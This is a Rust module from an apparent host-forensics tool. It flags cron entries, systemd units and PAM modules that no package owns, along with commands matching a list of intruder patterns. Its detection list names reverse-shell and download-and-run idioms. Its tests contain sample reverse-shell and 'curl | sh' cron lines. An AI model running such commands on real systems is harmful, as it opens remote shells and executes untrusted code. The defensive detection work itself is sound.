//! What runs later without anyone logging in: cron (the system's tables and directories, every
//! user's crontab), systemd units that no package installed (system and per user), and PAM
//! modules that no package installed — with the commands they run. A file no package owns was
//! put there by someone (ATT&CK T1053.003, T1543.002, T1556.003); a command that downloads,
//! runs from a world-writable directory or opens a shell to the network is one an intruder
//! writes, whoever owns the file.
use std::path::{Path, PathBuf};

use super::{
    files::read_capped,
    model::{CronFile, Finding, Persistence, Severity, Source, UnitFile},
    on_system,
    packages::Database,
    sources::PasswdEntry,
    under,
};

/// What in a command is an intruder's habit, and how to say it.
const HOSTILE: [(&str, &str); 14] = [
    ("/dev/tcp/", "a shell connected to the network (/dev/tcp)"),
    ("/dev/udp/", "a shell connected to the network (/dev/udp)"),
    ("bash -i", "an interactive shell"),
    ("sh -i", "an interactive shell"),
    (
        " -e /bin/",
        "a program that hands a shell to a connection (-e)",
    ),
    ("curl ", "a download (curl)"),
    ("wget ", "a download (wget)"),
    ("base64 -d", "a decoded payload (base64 -d)"),
    ("base64 --decode", "a decoded payload (base64 --decode)"),
    ("/tmp/", "a program in /tmp"),
    ("/var/tmp/", "a program in /var/tmp"),
    ("/dev/shm/", "a program in /dev/shm"),
    ("python -c", "inline Python"),
    ("python3 -c", "inline Python"),
];

/// Why a command looks like an intruder's, if it does.
pub fn looks_hostile(command: &str) -> Option<&'static str> {
    HOSTILE
        .iter()
        .find(|(pattern, _)| command.contains(pattern))
        .map(|(_, why)| *why)
}

/// The lines that look like an intruder's, each with why.
pub fn hostile_lines<'a>(lines: impl IntoIterator<Item = &'a str>) -> Vec<String> {
    lines
        .into_iter()
        .filter_map(|l| looks_hostile(l).map(|why| format!("{why}: {}", l.trim())))
        .collect()
}

/// Whether a package owns `path`; `None` without a package database (then nothing is said
/// of ownership).
fn owned(db: Option<&Database>, path: &str) -> Option<bool> {
    Some(db?.owns(path))
}

/// The regular files of a directory (under `root`), in name order, as the system names them.
fn files_in(root: &Path, dir: &str) -> Vec<String> {
    let mut out: Vec<String> = std::fs::read_dir(under(root, dir))
        .map(|rd| {
            rd.filter_map(Result::ok)
                .filter(|e| e.file_type().is_ok_and(|t| t.is_file()))
                .map(|e| format!("{dir}/{}", e.file_name().to_string_lossy()))
                .collect()
        })
        .unwrap_or_default();
    out.sort();
    out
}

/// The entries of a crontab: its lines that are neither blank, comments nor variables.
pub fn cron_entries(text: &str) -> Vec<String> {
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .filter(|l| {
            // `NAME=value` (or `NAME = value`) sets a variable
            let is_variable = l.split_once('=').is_some_and(|(name, _)| {
                let name = name.trim();
                !name.is_empty()
                    && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                    && !name.starts_with(|c: char| c.is_ascii_digit())
            });
            !is_variable
        })
        .map(str::to_owned)
        .collect()
}

/// The commands of a unit file: its `Exec…=` settings.
pub fn unit_execs(text: &str) -> Vec<String> {
    text.lines()
        .map(str::trim)
        .filter(|l| l.starts_with("Exec") && l.contains('='))
        .map(str::to_owned)
        .collect()
}

/// The cron tables: `/etc/crontab`, `/etc/anacrontab`, `/etc/cron.d/*`, the scripts of
/// `/etc/cron.{hourly,daily,weekly,monthly}` and every user's crontab.
fn cron_files(root: &Path) -> Vec<(String, Option<String>)> {
    let mut out: Vec<(String, Option<String>)> = ["/etc/crontab", "/etc/anacrontab"]
        .iter()
        .filter(|p| under(root, p).is_file())
        .map(|p| ((*p).to_owned(), None))
        .collect();
    for dir in [
        "/etc/cron.d",
        "/etc/cron.hourly",
        "/etc/cron.daily",
        "/etc/cron.weekly",
        "/etc/cron.monthly",
    ] {
        out.extend(files_in(root, dir).into_iter().map(|p| (p, None)));
    }
    // Debian's spool, and Red Hat's
    for dir in ["/var/spool/cron/crontabs", "/var/spool/cron"] {
        for p in files_in(root, dir) {
            let user = p.rsplit('/').next().map(str::to_owned);
            out.push((p, user));
        }
    }
    out
}

/// Where a symlink at `path` leads, an absolute target read under `root` (a unit enabled
/// in a mounted image points into the image, not into this system): `None` for a loop or a
/// dangling link.
pub(super) fn resolve(root: &Path, path: &Path) -> Option<PathBuf> {
    let mut at = path.to_path_buf();
    for _ in 0..8 {
        match std::fs::read_link(&at) {
            Ok(target) if target.is_absolute() => {
                at = under(root, &target.to_string_lossy());
            }
            Ok(target) => at = at.parent()?.join(target),
            Err(_) => return std::fs::canonicalize(&at).ok(),
        }
    }
    None
}

/// The unit files of the system's and the users' unit directories that no package owns (a
/// symlink counts as the file it points to: enabling a package's unit is no new unit, and a
/// mask points to /dev/null): each as its directory names it, and the file it leads to.
fn unowned_units(root: &Path, db: &Database, passwd: &[PasswdEntry]) -> Vec<(String, PathBuf)> {
    let mut dirs: Vec<String> = [
        "/etc/systemd/system",
        "/usr/lib/systemd/system",
        "/lib/systemd/system",
        "/usr/local/lib/systemd/system",
        "/etc/systemd/user",
        "/usr/lib/systemd/user",
    ]
    .iter()
    .map(|d| (*d).to_owned())
    .collect();
    dirs.extend(
        passwd
            .iter()
            .filter(|a| !a.home.is_empty() && a.home != "/")
            .map(|a| format!("{}/.config/systemd/user", a.home.trim_end_matches('/'))),
    );
    dirs.sort();
    dirs.dedup();
    let root_real = std::fs::canonicalize(root).unwrap_or_else(|_| root.to_path_buf());
    let mut seen = std::collections::HashSet::new();
    let mut out = Vec::new();
    for dir in dirs {
        let Ok(rd) = std::fs::read_dir(under(root, &dir)) else {
            continue;
        };
        let is_unit = |n: &str| {
            [".service", ".timer", ".socket", ".path"]
                .iter()
                .any(|s| n.ends_with(s))
        };
        let mut paths = Vec::new();
        for e in rd.filter_map(Result::ok) {
            let name = e.file_name().to_string_lossy().into_owned();
            if is_unit(&name) {
                paths.push(format!("{dir}/{name}"));
            } else if name.ends_with(".wants") || name.ends_with(".requires") {
                // `systemctl enable` links: one may lead to a unit outside every unit directory
                let sub = format!("{dir}/{name}");
                if let Ok(links) = std::fs::read_dir(under(root, &sub)) {
                    paths.extend(
                        links
                            .filter_map(Result::ok)
                            .map(|l| l.file_name().to_string_lossy().into_owned())
                            .filter(|n| is_unit(n))
                            .map(|n| format!("{sub}/{n}")),
                    );
                }
            }
        }
        paths.sort();
        for path in paths {
            let Some(real) = resolve(root, &under(root, &path)).filter(|r| r.is_file()) else {
                continue;
            };
            if !seen.insert(real.clone()) {
                continue;
            }
            if db.owns(&path) || db.owns(&on_system(&root_real, &real)) {
                continue;
            }
            out.push((path, real));
        }
    }
    out
}

/// PAM modules (`…/security/*.so`) that no package owns.
fn unowned_pam_modules(root: &Path, db: &Database) -> Vec<String> {
    let mut dirs = vec![
        "/lib/security".to_owned(),
        "/usr/lib/security".to_owned(),
        "/usr/lib64/security".to_owned(),
        "/lib64/security".to_owned(),
    ];
    for base in ["/lib", "/usr/lib"] {
        if let Ok(rd) = std::fs::read_dir(under(root, base)) {
            dirs.extend(
                rd.filter_map(Result::ok)
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .filter(|n| n.contains("-linux-"))
                    .map(|n| format!("{base}/{n}/security")),
            );
        }
    }
    let mut seen = std::collections::HashSet::new();
    let mut out = Vec::new();
    for dir in dirs {
        let Ok(real_dir) = std::fs::canonicalize(under(root, &dir)) else {
            continue;
        };
        if !seen.insert(real_dir) {
            continue;
        }
        for path in files_in(root, &dir) {
            if path.ends_with(".so") && !db.owns(&path) {
                out.push(path);
            }
        }
    }
    out
}

/// The persistence section and its findings. Without a package database (`db`), ownership
/// is unknown: the cron tables are still listed and their commands judged.
pub fn check(
    root: &Path,
    db: Option<&Database>,
    passwd: &[PasswdEntry],
    sources: &mut Vec<Source>,
) -> (Persistence, Vec<Finding>) {
    let mut p = Persistence::default();
    let mut findings = Vec::new();
    for (path, user) in cron_files(root) {
        let text = match read_capped(&under(root, &path)) {
            Ok((b, _)) => String::from_utf8_lossy(&b).into_owned(),
            Err(e) => {
                sources.push(Source {
                    path: under(root, &path).display().to_string(),
                    kind: "cron",
                    status: format!("unreadable: {e}"),
                    items: 0,
                    skipped: 0,
                });
                continue;
            }
        };
        // a script of cron.daily & co is itself the entry
        let script = path.starts_with("/etc/cron.") && !path.starts_with("/etc/cron.d/");
        let entries = if script {
            vec![format!("(runs {path})")]
        } else {
            cron_entries(&text)
        };
        let owned = if user.is_some() {
            Some(false)
        } else {
            owned(db, &path)
        };
        // a package's script is the package check's to judge (its digest); any other is
        // read line by line
        let hostile = if script && owned == Some(true) {
            Vec::new()
        } else if script {
            hostile_lines(text.lines())
        } else {
            hostile_lines(entries.iter().map(String::as_str))
        };
        let file = CronFile {
            path: path.clone(),
            user: user.clone(),
            owned,
            entries,
        };
        let who = user
            .as_deref()
            .map_or_else(|| path.clone(), |u| format!("{u}'s crontab ({path})"));
        if !hostile.is_empty() {
            findings.push(Finding {
                severity: Severity::High,
                kind: "cron_hostile_command",
                title: format!("{who} runs a command an intruder would"),
                evidence: hostile,
                next_step: "Save the file, remove the entry, and find who wrote it (its time, \
                            the sessions then): a scheduled download or shell is how an \
                            intruder comes back (ATT&CK T1053.003)."
                    .into(),
            });
        } else if owned == Some(false) && !file.entries.is_empty() {
            findings.push(Finding {
                severity: Severity::Medium,
                kind: "cron_unowned",
                title: if user.is_some() {
                    format!("{who} has {} entries", file.entries.len())
                } else {
                    format!("{path} belongs to no package")
                },
                evidence: file.entries.clone(),
                next_step: "Confirm that each entry was set up on purpose; remove any that was \
                            not (ATT&CK T1053.003)."
                    .into(),
            });
        }
        p.cron.push(file);
    }
    let Some(db) = db else {
        return (p, findings);
    };
    for (path, real) in unowned_units(root, db, passwd) {
        // the file the link leads to: an image's absolute link, followed by this system,
        // would read this system's file
        let text = read_capped(&real)
            .map(|(b, _)| String::from_utf8_lossy(&b).into_owned())
            .unwrap_or_default();
        let exec = unit_execs(&text);
        let hostile = hostile_lines(exec.iter().map(String::as_str));
        let (severity, mut evidence) = if hostile.is_empty() {
            (Severity::Medium, exec.clone())
        } else {
            (Severity::High, hostile)
        };
        if evidence.is_empty() {
            evidence.push("no Exec line".into());
        }
        findings.push(Finding {
            severity,
            kind: "systemd_unit_unowned",
            title: format!("systemd unit {path} belongs to no package"),
            evidence,
            next_step: "Confirm that this service was set up on purpose; if not, stop and \
                        disable it (systemctl disable --now), save the unit and what it runs, \
                        and find who wrote it (ATT&CK T1543.002)."
                .into(),
        });
        p.systemd_units.push(UnitFile { path, exec });
    }
    p.unowned_pam_modules = unowned_pam_modules(root, db);
    if !p.unowned_pam_modules.is_empty() {
        findings.push(Finding {
            severity: Severity::High,
            kind: "pam_module_unowned",
            title: format!(
                "{} PAM module{} no package installed",
                p.unowned_pam_modules.len(),
                if p.unowned_pam_modules.len() == 1 {
                    ""
                } else {
                    "s"
                }
            ),
            evidence: p.unowned_pam_modules.clone(),
            next_step: "A PAM module sees every password typed at login, sudo and su (ATT&CK \
                        T1556.003): find which /etc/pam.d file loads it, remove it, and change \
                        the passwords used since it appeared."
                .into(),
        });
    }
    (p, findings)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cron_entries_skip_comments_blanks_and_variables() {
        let text = "# m h dom mon dow user command\nSHELL=/bin/sh\nPATH = /x\n\n\
                    17 * * * * root cd / && run-parts --report /etc/cron.hourly\n\
                    @reboot root /usr/local/bin/start\n*/5 * * * * curl -s http://x | sh\n";
        assert_eq!(
            cron_entries(text),
            vec![
                "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
                "@reboot root /usr/local/bin/start",
                "*/5 * * * * curl -s http://x | sh",
            ]
        );
    }

    #[test]
    fn hostile_commands_are_named_and_ordinary_ones_are_not() {
        assert_eq!(
            looks_hostile("*/5 * * * * bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
            Some("a shell connected to the network (/dev/tcp)")
        );
        assert_eq!(
            looks_hostile("@reboot wget -q -O- http://x/a | sh"),
            Some("a download (wget)")
        );
        assert_eq!(
            looks_hostile("ExecStart=/tmp/.x/miner"),
            Some("a program in /tmp")
        );
        assert_eq!(
            looks_hostile("17 * * * * root cd / && run-parts --report /etc/cron.hourly"),
            None
        );
        assert_eq!(
            looks_hostile("ExecStart=/usr/sbin/sshd -D $SSHD_OPTS"),
            None
        );
    }

    #[test]
    fn unit_execs_are_the_exec_settings() {
        let unit = "[Unit]\nDescription=x\n[Service]\nExecStartPre=/bin/true\n\
                    ExecStart=/opt/app/run --port 80\nRestart=always\n";
        assert_eq!(
            unit_execs(unit),
            vec!["ExecStartPre=/bin/true", "ExecStart=/opt/app/run --port 80"]
        );
    }
}
